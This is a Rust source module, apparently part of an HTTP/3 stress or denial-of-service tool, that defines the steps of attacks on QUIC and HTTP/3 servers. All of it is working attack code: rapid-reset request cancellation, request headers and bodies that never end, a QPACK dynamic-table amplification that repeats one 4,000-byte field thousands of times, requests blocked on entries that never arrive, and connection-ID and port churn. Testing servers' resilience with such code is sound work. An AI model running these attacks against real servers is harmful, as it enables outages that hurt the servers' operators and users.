//! The steps of the attacks on QUIC and HTTP/3.

use rudy_http::h3::ErrorCode;

use super::quic::QuicScript;
use crate::Http3Connection;
use crate::http3::{h3_frame, h3_head, h3_headers, h3_kind, h3_stream, varint};

/// The window of a client that reads.
const WINDOW: u32 = 1 << 20;
/// The bytes of a head that does not end: less than a server should accept.
const HEAD_BYTES: usize = 8000;
/// The value of the field in the dynamic table of QPACK: with its name and 32 bytes, it fits into a table of 4,096 bytes.
const VALUE_BYTES: usize = 4000;

/// Steps on a connection at a time.
pub(super) const FLOOD: QuicScript =
    QuicScript { window: WINDOW, prologue: |_| 0, step: |_, _, _| {}, batch: 100, steps_held: u32::MAX };

/// Opens a stream for a request, and sends bytes on it. `None` if the connection has ended.
fn send(connection: &mut Http3Connection, bytes: &[u8], ends: bool) -> Option<u64> {
    let stream = connection.next_stream()?;
    connection.queue(stream, bytes);
    if ends {
        connection.finish(stream);
    } else {
        connection.drive();
    }
    Some(stream)
}

fn request(path: &str) -> Vec<u8> {
    h3_headers(&h3_head("GET", path))
}

/// A request that is cancelled in the next packet.
pub(super) fn rapid_reset(connection: &mut Http3Connection, path: &str) {
    if let Some(stream) = send(connection, &request(path), false) {
        connection.stop(stream, ErrorCode::REQUEST_CANCELLED.0);
        connection.reset(stream, ErrorCode::REQUEST_CANCELLED.0);
    }
}

/// A request whose head does not end.
pub(super) fn unfinished_head(connection: &mut Http3Connection, _: u64, _: u32) {
    let head = h3_frame(h3_kind::HEADERS, &[0; HEAD_BYTES]);
    send(connection, &head[..head.len() - 1], false);
}

/// A request whose body does not end.
pub(super) fn open_request(connection: &mut Http3Connection) -> u64 {
    send(connection, &h3_headers(&h3_head("POST", "/large.bin")), false).unwrap_or_default()
}

/// A frame of a type that is reserved to be ignored (RFC 9114 §7.2.8).
pub(super) fn reserved(connection: &mut Http3Connection, stream: u64, _: u32) {
    connection.queue(stream, &h3_frame(0x21, &[]));
}

pub(super) fn cancelled_request(connection: &mut Http3Connection, _: u64, _: u32) {
    rapid_reset(connection, "/");
}

pub(super) fn cancelled_large_request(connection: &mut Http3Connection, _: u64, _: u32) {
    rapid_reset(connection, "/large.bin");
}

/// A request for more than the client reads.
pub(super) fn large_request(connection: &mut Http3Connection, _: u64, _: u32) {
    connection.stop_reading();
    send(connection, &request("/huge.bin"), true);
    connection.wait_for_window();
}

/// Inserts a field into the dynamic table: its capacity, and a literal (RFC 9204 §4.3.1, §4.3.3).
pub(super) fn insert_once(connection: &mut Http3Connection) -> u64 {
    let encoder = connection.open_uni(h3_stream::ENCODER);
    // 0x3f: the prefix of 5 bits is full; 4096 - 31 = 0x61 + 31 * 128.
    let capacity = [0x3f, 0xe1, 31];
    connection.queue(encoder, &[&capacity[..], &insertion(VALUE_BYTES)].concat());
    encoder
}

/// The name `x-a`, and a value of this length.
fn insertion(value_bytes: usize) -> Vec<u8> {
    let rest = value_bytes - 0x7f;
    let length =
        [0x7f, 0x80 | u8::try_from(rest % 128).expect("7 bits"), u8::try_from(rest / 128).expect("few")];
    [&[0x43][..], b"x-a", &length, &vec![b'x'; value_bytes]].concat()
}

/// A request with 4,000 references to that field.
pub(super) fn references(connection: &mut Http3Connection, _: u64, _: u32) {
    // Required Insert Count 1 and Base 1 (RFC 9204 §4.5.1); the fields of the head; and index 0 before the Base.
    let plain = request("/");
    let fields = [&[2, 0][..], &plain[4..], &[0x80; 4000]].concat();
    send(connection, &h3_frame(h3_kind::HEADERS, &fields), true);
}

/// An instruction that replaces the field.
pub(super) fn insert(connection: &mut Http3Connection, encoder: u64, _: u32) {
    connection.queue(encoder, &insertion(VALUE_BYTES));
}

/// A request that needs an entry that never arrives.
pub(super) fn blocked(connection: &mut Http3Connection, _: u64, _: u32) {
    send(connection, &h3_frame(h3_kind::HEADERS, &[&[2, 0, 0x80][..], &[0x80; HEAD_BYTES]].concat()), true);
}

/// A unidirectional stream of an unknown type, which the server has to stop.
pub(super) fn unknown_stream(connection: &mut Http3Connection, _: u64, _: u32) {
    if let Some(stream) = connection.next_uni() {
        connection.queue(stream, &varint(0x21));
        connection.finish(stream);
    }
}

pub(super) fn ping(connection: &mut Http3Connection, _: u64, _: u32) {
    connection.quic().ping();
    connection.drive();
}

/// Uses the next connection id of the server, which sends a new one (RFC 9000 §5.1.2).
pub(super) fn retire_id(connection: &mut Http3Connection, _: u64, _: u32) {
    connection.quic().local_address_changed();
    connection.quic().ping();
    connection.drive();
}

/// Sends from a new port, whose path the server validates (RFC 9000 §8.2).
pub(super) fn new_port(connection: &mut Http3Connection, _: u64, _: u32) {
    connection.change_port();
    connection.quic().ping();
    connection.drive();
}
